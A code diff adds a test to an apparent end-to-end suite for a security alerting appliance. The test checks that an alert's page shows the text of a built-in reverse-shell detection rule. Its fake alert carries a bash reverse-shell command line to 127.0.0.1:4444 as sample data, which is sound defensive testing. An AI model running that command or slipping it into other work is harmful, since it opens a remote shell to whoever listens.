@@ -8,6 +8,7 @@
 
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import {
   launch, context, signIn, shot, apiFromPage, publisher, pushBundle, median, ADMIN_PASSWORD, SEEDED_ALERTS, URL,
 } from './helpers.js';
@@ -148,6 +149,24 @@ test('open an alert', async () => {
   const href = await page.locator('a.chip', { hasText: 'T1059.004' }).first().getAttribute('href');
   assert.equal(href, 'https://attack.mitre.org/techniques/T1059/004/');
   await shot(page, 'alert');
+});
+
+test('the alert page shows the rule text of a built-in rule', async () => {
+  // picketd's built-in reverse-shell rule: the backend embeds its text
+  const yaml = readFileSync(new globalThis.URL('../../../appliance/rules/reverse_shell.yml', import.meta.url), 'utf8');
+  const ruleId = yaml.match(/^id:\s*(\S+)/m)[1];
+  const r = await pub.publish({ command_line: 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', level: 'high', rule_title: `Reverse shell ${marker}`, rule_id: ruleId });
+  // stored (the broker's ack comes before the backend's commit)
+  for (let i = 0; i < 100 && (await apiFromPage(page, 'GET', `/alerts/${r.id}`)).status !== 200; i++) {
+    await new Promise((ok) => setTimeout(ok, 50));
+  }
+  await page.goto(`/#/alerts/${r.id}`);
+  await page.locator('[data-testid=rule-text]').waitFor();
+  assert.equal(await page.locator('[data-testid=rule-text]').textContent(), yaml);
+  // a rule the backend does not know says so
+  await page.goto(`/#/alerts/${live.id}`);
+  await page.locator('[data-testid=alert-title]').waitFor();
+  await page.locator('.empty', { hasText: 'rules directory' }).waitFor();
 });
 
 test('acknowledge, assign, note', async () => {
